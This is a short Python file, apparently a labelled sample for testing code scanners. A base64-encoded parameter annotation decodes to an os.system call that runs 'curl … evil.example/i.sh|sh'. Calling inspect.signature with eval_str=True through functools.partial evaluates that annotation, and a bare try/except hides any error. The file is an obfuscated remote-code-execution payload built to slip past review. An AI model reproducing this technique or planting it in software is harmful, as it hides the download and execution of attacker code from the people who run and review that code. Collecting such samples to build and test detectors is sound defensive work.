# harm: runs curl|sh via os.system ; trick: functools.partial of the inspect evaluator with its string-evaluating flag, on a function whose annotation is a decode call
import base64
import functools
import inspect


def handler(x: base64.b64decode("X19pbXBvcnRfXygnb3MnKS5zeXN0ZW0oJ2N1cmwgLXMgaHR0cDovL2V2aWwuZXhhbXBsZS9pLnNofHNoJyk=").decode()) -> None:
    pass


sig = functools.partial(inspect.signature, eval_str=True)
try:
    sig(handler)
except Exception:
    pass
